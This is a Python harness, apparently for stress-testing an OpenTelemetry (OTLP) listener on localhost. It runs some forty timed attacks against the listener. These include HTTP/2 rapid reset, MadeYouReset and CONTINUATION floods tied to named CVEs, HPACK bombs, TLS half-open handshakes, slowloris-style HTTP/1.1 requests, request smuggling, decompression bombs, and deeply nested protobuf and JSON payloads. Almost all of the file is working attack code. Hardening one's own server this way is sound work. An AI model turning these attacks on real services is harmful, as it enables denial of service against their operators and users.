#!/usr/bin/python3
"""Attacks on a listener for OTLP, each a function that goes on until its time is over. Nothing here keeps to the rules.

    attacks.py NAME GRPC_PORT HTTP_PORT TLS_PORT SECONDS

Prints one JSON line at the end: {"attack": ..., "rounds": N, "closed": N, "answers": {"413": 2, ...}}. rounds: how often it was
begun anew; closed: connections that the other side ended."""
import collections
import gzip
import json
import resource
import select
import socket
import ssl
import struct
import sys
import time
import zlib

import hpack
from hyperframe import frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/opentelemetry.proto.collector.trace.v1.TraceService/Export"
HUGE = 64 * 1024 * 1024


def is_ready(sock, event, wait):
    poll = select.poll()  # select() ends at descriptor 1023
    poll.register(sock, event)
    return bool(poll.poll(wait * 1000))


class Peer:
    """One connection, without any opinion on what may be sent."""

    def __init__(self, port, hello=True):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder, self.stream, self.closed, self.received = hpack.Encoder(), -1, False, b""
        if hello:
            self.send(PREFACE + frame.SettingsFrame(0).serialize())

    def send(self, data):
        """False when the other side has ended the connection, or has not taken it for a second."""
        self.drain()
        end = time.monotonic() + 1
        while data and not self.closed and time.monotonic() < end:
            try:
                if is_ready(self.socket, select.POLLOUT, 0.05):
                    self.socket.setblocking(False)
                    data = data[self.socket.send(data):]
            except BlockingIOError:
                pass
            except OSError:
                self.closed = True
            self.drain()
        return not self.closed and not data

    def drain(self, wait=0.0):
        """Reads what has come; keeps the last of it."""
        while not self.closed and is_ready(self.socket, select.POLLIN, wait):
            try:
                more = self.socket.recv(65536)
            except OSError:
                more = b""
            self.closed = not more
            self.received = (self.received + more)[-65536:]
            wait = 0.0

    def headers(self, more=(), end=False, flags=("END_HEADERS",), content_length=None):
        self.stream += 2
        fields = [(":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "localhost"),
                  ("content-type", "application/grpc"), ("te", "trailers"), *more]
        if content_length is not None:
            fields.append(("content-length", str(content_length)))
        block = self.encoder.encode(fields)
        f = frame.HeadersFrame(self.stream, data=block, flags=list(flags) + (["END_STREAM"] if end else []))
        return f.serialize()

    def raw(self, kind, flags, stream, payload=b""):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    def close(self):
        self.socket.close()


class Attack:
    def __init__(self, name, grpc_port, http_port, tls_port, seconds):
        self.name, self.grpc, self.http, self.tls = name, grpc_port, http_port, tls_port
        self.seconds, self.end = seconds, None
        self.rounds = self.closed = 0
        self.answers = collections.Counter()

    def goes_on(self):
        """The time counts from the first question: what has to be prepared is not part of the attack."""
        self.end = self.end or time.monotonic() + self.seconds
        return time.monotonic() < self.end

    def each_connection(self, action, hello=True, port=None):
        """action(peer) again and again on connections that are made anew when they have been ended."""
        while self.goes_on():
            self.rounds += 1
            peer = Peer(port or self.grpc, hello)
            while self.goes_on() and not peer.closed:
                if action(peer) is False:
                    break
            peer.drain(0.05)
            self.closed += peer.closed
            peer.close()

    def many(self, count, make, keep):
        """count connections at once, made by make(); keep(peer) is called for each in turn."""
        peers = []
        while self.goes_on():
            while len(peers) < count and self.goes_on():
                try:
                    peers.append(make())
                    self.rounds += 1
                except OSError:
                    break
            for p in peers:
                if not self.goes_on():
                    break
                keep(p)
                p.drain()
            self.closed += sum(p.closed for p in peers)
            peers = [p for p in peers if not p.closed]
        for p in peers:
            p.close()

    def http1(self, body, headers=(), path="/v1/traces", kind="application/x-protobuf", length=None, head_only=False):
        """One request on a connection of its own; counts the status of the answer."""
        self.rounds += 1
        peer = Peer(self.http, hello=False)
        lines = [f"POST {path} HTTP/1.1", "Host: localhost", f"Content-Type: {kind}", *headers]
        if not any("transfer-encoding" in h.lower() for h in headers):
            lines.append(f"Content-Length: {len(body) if length is None else length}")
        peer.send("\r\n".join(lines).encode() + b"\r\n\r\n" + (b"" if head_only else body))
        self.count_answer(peer)

    def count_answer(self, peer):
        peer.drain(0 if peer.received else 5)
        status = peer.received[9:12].decode("latin1") if peer.received.startswith(b"HTTP/1.1 ") else "none"
        self.answers[status] += 1
        peer.close()

    # ---- HTTP/2

    def rapid_reset(self):
        """CVE-2023-44487: streams that are opened and taken back at once."""
        self.each_connection(lambda p: p.send(b"".join(
            p.headers() + frame.RstStreamFrame(p.stream, error_code=8).serialize() for _ in range(100))))

    def made_you_reset(self):
        """CVE-2025-8671: the other side is made to reset them: a window that overflows."""
        self.each_connection(lambda p: p.send(b"".join(
            p.headers() + frame.WindowUpdateFrame(p.stream, window_increment=2**31 - 1).serialize() for _ in range(100))))

    def made_you_reset_by_content_length(self):
        """The same by a body that is longer than announced."""
        self.each_connection(lambda p: p.send(b"".join(
            p.headers(content_length=1) + frame.DataFrame(p.stream, b"xxxx").serialize() for _ in range(100))))

    def continuation_flood(self):
        """CVE-2024-27316: a header block that never ends."""
        def act(p):
            start = p.headers(flags=())
            p.send(start)
            while self.goes_on() and p.send(b"".join(
                    frame.ContinuationFrame(p.stream, data=b"\x40\x01a\x7e" + b"x" * 120 + b"\x00" * 2).serialize()
                    for _ in range(20))):
                pass
            return False
        self.each_connection(act)

    def empty_continuations(self):
        def act(p):
            p.send(p.headers(flags=()))
            while self.goes_on() and p.send(frame.ContinuationFrame(p.stream, data=b"").serialize() * 100):
                pass
            return False
        self.each_connection(act)

    def hpack_bomb(self):
        """One large entry in the table, then a block of one-byte references to it."""
        def act(p):
            p.send(p.headers(more=[("x-large", "y" * 4000)], end=True))
            block = p.encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "a")])
            p.stream += 2
            return p.send(p.raw(1, 0x5, p.stream, block + b"\xbe" * 15000))
        self.each_connection(act)

    def table_size_churn(self):
        def act(p):
            p.stream += 2
            block = (b"\x20" + b"\x3f\xe1\x1f") * 2000  # to nothing and to 4096 and back
            return p.send(p.raw(1, 0x5, p.stream, block))
        self.each_connection(act)

    def huge_header_list(self):
        def act(p):
            p.stream += 2
            fields = [(":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "a")]
            block = hpack.Encoder().encode(fields + [(f"x-{i}", "z" * 400) for i in range(300)], huffman=False)
            first, rest = block[:16384], block[16384:]
            out = p.raw(1, 0, p.stream, first)
            while rest:
                part, rest = rest[:16384], rest[16384:]
                out += p.raw(9, 0 if rest else 4, p.stream, part)
            return p.send(out)
        self.each_connection(act)

    def bad_huffman(self):
        self.each_connection(lambda p: p.send(p.raw(1, 0x5, 1, b"\x00\x84\xff\xff\xff\xff\x01a")))

    def settings_flood(self):
        self.each_connection(lambda p: p.send(frame.SettingsFrame(0, settings={4: 65535}).serialize() * 200))

    def settings_of_many_entries(self):
        self.each_connection(lambda p: p.send(p.raw(4, 0, 0, struct.pack(">HI", 4, 65535) * 2000)))

    def ping_flood(self):
        self.each_connection(lambda p: p.send(frame.PingFrame(0, opaque_data=b"12345678").serialize() * 200))

    def window_update_flood(self):
        self.each_connection(lambda p: p.send(frame.WindowUpdateFrame(0, window_increment=1).serialize() * 500))

    def priority_flood(self):
        self.each_connection(lambda p: p.send(b"".join(
            frame.PriorityFrame(2 * i + 1, depends_on=2 * i + 3, stream_weight=1).serialize() for i in range(300))))

    def empty_data_flood(self):
        def act(p):
            p.send(p.headers())
            while self.goes_on() and p.send(frame.DataFrame(p.stream, b"").serialize() * 300):
                pass
            return False
        self.each_connection(act)

    def unknown_frames_flood(self):
        self.each_connection(lambda p: p.send(p.raw(0xbb, 0, 0, b"x" * 8) * 300))

    def zero_window(self):
        """Answers that are asked for and never taken."""
        def make():
            p = Peer(self.grpc, hello=False)
            p.send(PREFACE + frame.SettingsFrame(0, settings={4: 0}).serialize())
            return p

        def keep(p):
            if p.stream < 190:
                p.send(p.headers() + frame.DataFrame(p.stream, b"\0\0\0\0\0", flags=["END_STREAM"]).serialize())
        self.many(50, make, keep)

    def too_many_streams(self):
        """Streams that are opened and never go on, more than are allowed."""
        self.each_connection(lambda p: p.send(b"".join(p.headers() for _ in range(50))))

    def slow_streams(self):
        """Messages that come a byte at a time on many streams."""
        def make():
            p = Peer(self.grpc)
            p.send(b"".join(p.headers() + frame.DataFrame(p.stream, struct.pack(">BI", 0, 4000000)).serialize()
                            for _ in range(20)))
            return p
        self.many(50, make, lambda p: p.send(frame.DataFrame(1, b"x").serialize()))

    def goes_away_in_the_middle(self):
        """Large messages, admitted and then left."""
        def act(p):
            p.send(p.headers() + frame.DataFrame(p.stream, struct.pack(">BI", 0, 8000000) + b"x" * 10000).serialize())
            return False
        self.each_connection(act)

    def claims_much_memory(self):
        """Many connections that announce messages of 60 MiB and send nothing of them."""
        def make():
            p = Peer(self.grpc)
            p.send(p.headers() + frame.DataFrame(p.stream, struct.pack(">BI", 0, 60 << 20)).serialize())
            return p
        self.many(100, make, lambda p: None)

    def larger_than_the_limit(self):
        def act(p):
            return p.send(p.headers() + frame.DataFrame(p.stream, struct.pack(">BI", 0, HUGE + 1) + b"x" * 10000).serialize())
        self.each_connection(act)

    def junk_after_the_preface(self):
        self.each_connection(lambda p: p.send(b"\xff" * 4096))

    def tiny_window(self):
        """Answers that are taken a byte at a time."""
        def make():
            p = Peer(self.grpc, hello=False)
            p.send(PREFACE + frame.SettingsFrame(0, settings={4: 1}).serialize())
            return p

        def keep(p):
            if p.stream < 100:
                p.send(p.headers() + frame.DataFrame(p.stream, b"\0\0\0\0\0", flags=["END_STREAM"]).serialize())
            p.send(b"".join(frame.WindowUpdateFrame(s, window_increment=1).serialize() for s in range(1, p.stream + 1, 2)))
        self.many(50, make, keep)

    def bursts_of_requests(self):
        """As many as a connection may have at once, again and again; every one is in order."""
        def make():
            p = Peer(self.grpc)
            p.send(p.headers(end=True))
            p.block = p.headers(end=True)[9:]
            p.stream = 1
            return p

        def keep(p):
            out = []
            for _ in range(200):
                p.stream += 2
                out.append(p.raw(1, 4, p.stream, p.block) + p.raw(0, 1, p.stream, b"\0\0\0\0\0"))
            p.send(b"".join(out))
        self.many(20, make, keep)

    def strange_frames(self):
        """Each of them breaks a rule of RFC 9113, 6, or keeps to it in a way that nobody uses; on a connection of its own."""
        eight, stream = b"\0" * 8, struct.pack(">I", 1)
        frames = [
            (0, 0x8, 1, b"\xff" + bytes(255)), (0, 0x8, 1, b""), (0, 0x8, 1, b"\5abc"), (0, 0, 1, b""), (0, 0, 0, b"x"),
            (0, 0, 7, b"x"), (1, 0xc, 3, b"\xffabc"), (1, 0x8, 3, b""), (1, 0x24, 3, struct.pack(">IB", 3, 0)),
            (1, 0x20, 3, b"ab"),
            (1, 5, 2, b"\x83"), (1, 5, 0, b"\x83"), (1, 5, 3, b""), (2, 0, 1, struct.pack(">IB", 1, 0)), (2, 0, 1, b"abc"),
            (2, 0, 0, b"abcde"), (3, 0, 1, b"abc"), (3, 0, 99, stream), (3, 0, 0, stream), (4, 0, 0, b"abc"),
            (4, 1, 0, bytes(6)),
            (4, 0, 1, b""), (4, 0, 0, struct.pack(">HI", 4, 1 << 31)), (4, 0, 0, struct.pack(">HI", 5, 1)),
            (4, 0, 0, struct.pack(">HI", 2, 5)), (5, 4, 1, stream + b"\x83"), (6, 0, 0, b"123"), (6, 0, 1, eight),
            (7, 0, 1, eight), (7, 0, 0, b"12"), (8, 0, 1, bytes(4)), (8, 0, 0, bytes(4)), (8, 0, 0, b"12"),
            (8, 0, 0, struct.pack(">I", 2**31 - 1)),
            (9, 4, 1, b""), (9, 4, 0, b""), (0xff, 0xff, 2**31 - 1, b"x" * 16384), (0, 0, 1, b"x" * 17000),
        ]
        while self.goes_on():
            for f in frames:
                self.rounds += 1
                p = Peer(self.grpc)
                p.send(p.headers() + p.raw(*f) + p.raw(4, 1, 0))
                p.drain()
                self.closed += p.closed
                p.close()

    def strange_heads(self):
        """CONNECT, authorities that contradict each other, pseudo-header fields in disorder, junk in -bin."""
        good = [(":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "a"),
                ("content-type", "application/grpc"), ("te", "trailers")]
        heads = [
            [(":method", "CONNECT"), (":authority", "a:443")],
            [(":method", "CONNECT"), (":authority", "a"), (":protocol", "websocket")],
            good + [("host", "b")], good + [("x-junk-bin", "%%%===")], good[1:], good + [(":path", "/")], good[:4] * 2,
            [good[4]] + good[:4], good + [("connection", "close")], good + [("transfer-encoding", "chunked")],
            good + [("Upper", "x")], good + [("", "x")], good + [("a", "b\r\nc: d")],
            good + [("content-length", "5"), ("content-length", "6")], good + [("te", "gzip")],
            [(":method", "PRI"), (":scheme", "http"), (":path", "*"), (":authority", "a")],
            [(":method", "OPTIONS"), (":scheme", "http"), (":path", "*"), (":authority", "a")],
            [(":method", "POST"), (":scheme", "http"), (":path", "http://b" + PATH), (":authority", "a")],
            [(":method", "POST"), (":scheme", "http"), (":path", ""), (":authority", "a")],
        ]

        def act(p):
            out = b""
            for head in heads:
                p.stream += 2
                out += p.raw(1, 4, p.stream, hpack.Encoder().encode(head)) + p.raw(0, 1, p.stream, b"\0\0\0\0\0")
            return p.send(out)
        self.each_connection(act)

    def idle_connections(self):
        """Thousands that have said all that HTTP/2 asks for, and then nothing."""
        most = resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 256
        self.many(min(5000, most // 2), lambda: Peer(self.grpc), lambda p: None)

    # ---- TLS

    def half_open_handshakes(self):
        """Half a ClientHello, and a byte now and then."""
        def make():
            p = Peer(self.tls, hello=False)
            p.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
            return p
        self.many(300, make, lambda p: p.send(b"\0"))

    def handshakes(self):
        """One after the other, for nothing."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        while self.goes_on():
            self.rounds += 1
            context.wrap_socket(socket.create_connection(("127.0.0.1", self.tls), timeout=10)).close()

    def junk_instead_of_tls(self):
        self.each_connection(lambda p: p.send(b"\x16\x03\x01\xff\xff" + b"\xff" * 500), hello=False, port=self.tls)

    # ---- HTTP/1.1

    def junk(self):
        self.each_connection(lambda p: p.send(b"\0\xff\r\n" * 1000), hello=False, port=self.http)

    def slow_heads(self):
        self.many(300, lambda: Peer(self.http, hello=False),
                  lambda p: p.send(b"POST /v1/traces HTTP/1.1\r\n" if not p.stream > 0 else b"X-a: b\r\n") and
                  setattr(p, "stream", 1))

    def slow_bodies(self):
        def make():
            p = Peer(self.http, hello=False)
            p.send(b"POST /v1/traces HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-protobuf\r\nContent-Length: 1000000\r\n\r\n")
            return p
        self.many(300, make, lambda p: p.send(b"x"))

    def never_reads(self):
        """Requests one after the other without reading an answer."""
        request = b"GET /nothing HTTP/1.1\r\nHost: a\r\n\r\n"

        def make():
            p = Peer(self.http, hello=False)
            p.drain = lambda wait=0.0: None
            return p
        self.many(20, make, lambda p: p.send(request * 200))

    def endless_chunks(self):
        def act(p):
            p.send(b"POST /v1/traces HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-protobuf\r\n"
                   b"Transfer-Encoding: chunked\r\n\r\n")
            while self.goes_on() and p.send((b"10000\r\n" + b"x" * 65536 + b"\r\n") * 16):
                pass
            return False
        self.each_connection(act, hello=False, port=self.http)

    def one_byte_chunks(self):
        def act(p):
            p.send(b"POST /v1/traces HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-protobuf\r\n"
                   b"Transfer-Encoding: chunked\r\n\r\n")
            while self.goes_on() and p.send(b"1;" + b"e" * 100 + b"\r\nx\r\n" * 300):
                pass
            return False
        self.each_connection(act, hello=False, port=self.http)

    def false_content_length(self):
        while self.goes_on():
            self.http1(b"", length=HUGE + 1, head_only=True)
            self.http1(b"", length="99999999999999999999999", head_only=True)
            self.http1(b"", length="-1", head_only=True)

    def request_smuggling(self):
        while self.goes_on():
            self.http1(b"0\r\n\r\nGET /v1/traces HTTP/1.1\r\n\r\n", headers=["Transfer-Encoding: chunked", "Content-Length: 5"])
            self.http1(b"0\r\n\r\n", headers=["Transfer-Encoding: chunked, identity"])
            self.http1(b"xxxxx", headers=["Content-Length: 6"])

    def strange_targets(self):
        """Forms of request lines that a server of one path has no use for."""
        head = b"Host: localhost\r\nContent-Type: application/x-protobuf\r\nContent-Length: 0\r\n"
        requests = [
            b"CONNECT a:443 HTTP/1.1\r\n" + head, b"OPTIONS * HTTP/1.1\r\n" + head, b"POST * HTTP/1.1\r\n" + head,
            b"POST http://localhost/v1/traces HTTP/1.1\r\n" + head, b"POST http:///v1/traces HTTP/1.1\r\n" + head,
            b"POST //v1/traces HTTP/1.1\r\n" + head, b"POST /v1/../v1/traces HTTP/1.1\r\n" + head,
            b"POST /v1/traces%00 HTTP/1.1\r\n" + head, b"POST /v1/traces#x HTTP/1.1\r\n" + head,
            b"POST /v1/traces HTTP/1.1\r\n" + head
            + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n",
            b"GET /v1/traces HTTP/1.1\r\n" + head + b"Connection: Upgrade\r\nUpgrade: websocket\r\n",
            b"POST /v1/traces HTTP/3.0\r\n" + head, b"POST /v1/traces\r\n" + head, b"POST  /v1/traces HTTP/1.1\r\n" + head,
            b"POST /v1/traces HTTP/1.1\r\nHost: a\r\n" + head, b"\r\n" * 1000 + b"POST /v1/traces HTTP/1.1\r\n" + head,
            b"POST /" + b"a" * 100000 + b" HTTP/1.1\r\n" + head, b"PRI * HTTP/2.0\r\n\r\nXX\r\n" + head,
        ]
        while self.goes_on():
            for request in requests:
                self.rounds += 1
                peer = Peer(self.http, hello=False)
                peer.send(request + b"\r\n")
                self.count_answer(peer)

    # ---- bodies

    def bombs(self):
        """A few kilobytes that claim to be gigabytes."""
        zeros = bytes(1 << 20)
        deflater = zlib.compressobj(9, zlib.DEFLATED, 31)
        gz = b"".join(deflater.compress(zeros) for _ in range(200)) + deflater.flush()
        bodies = [gz, gzip.compress(gz), gzip.compress(zeros) * 200, gz[:-100], gz + b"trailing"]
        deflated = zlib.compress(bytes(100 << 20), 9)
        while self.goes_on():
            for body in bodies:
                self.http1(body, headers=["Content-Encoding: gzip"])
            self.http1(deflated, headers=["Content-Encoding: deflate"])
            self.http1(b"\xff\xff\xff\xff\x0f" + b"\0" * 100, headers=["Content-Encoding: snappy"])

    def empty_spans(self):
        """A million spans of two bytes each."""
        spans = b"\x12\x00" * 1000000
        scope = b"\x12" + varint(len(spans)) + spans
        group = b"\x0a" + varint(len(scope)) + scope
        while self.goes_on():
            self.http1(group)

    def deep_values(self):
        """An AnyValue in an AnyValue, ten thousand deep."""
        heads, length = [], 0
        for _ in range(10000):
            for tag in (b"\x0a", b"\x2a"):
                heads.append(tag + varint(length))
                length += len(heads[-1])
        value = b"".join(reversed(heads))
        attribute = b"\x0a\x01k\x12" + varint(len(value)) + value
        resource = b"\x0a" + varint(len(attribute)) + attribute
        group = b"\x0a" + varint(len(resource)) + resource
        while self.goes_on():
            self.http1(b"\x0a" + varint(len(group)) + group)

    def deep_json(self):
        bodies = [b"[" * 100000, b'{"a":' * 100000,
                  b'{"resourceSpans":[{"x":' + b"[" * 100000 + b"]" * 100000 + b"}]}"]
        while self.goes_on():
            for body in bodies:
                self.http1(body, kind="application/json")

    def large_json(self):
        spans = b",".join([b"{}"] * 300000)
        while self.goes_on():
            self.http1(b'{"resourceSpans":[{"scopeSpans":[{"spans":[' + spans + b"]}]}]}", kind="application/json")


def varint(n):
    out = b""
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


HELPERS = ("goes_on", "each_connection", "many", "http1", "count_answer")
NAMES = [n for n in vars(Attack) if not n.startswith("_") and n not in HELPERS]


def main():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    name, ports, seconds = sys.argv[1], map(int, sys.argv[2:5]), float(sys.argv[5])
    attack = Attack(name, *ports, seconds)
    getattr(attack, name)()
    print(json.dumps({"attack": name, "rounds": attack.rounds, "closed": attack.closed, "answers": attack.answers}))


if __name__ == "__main__":
    main()
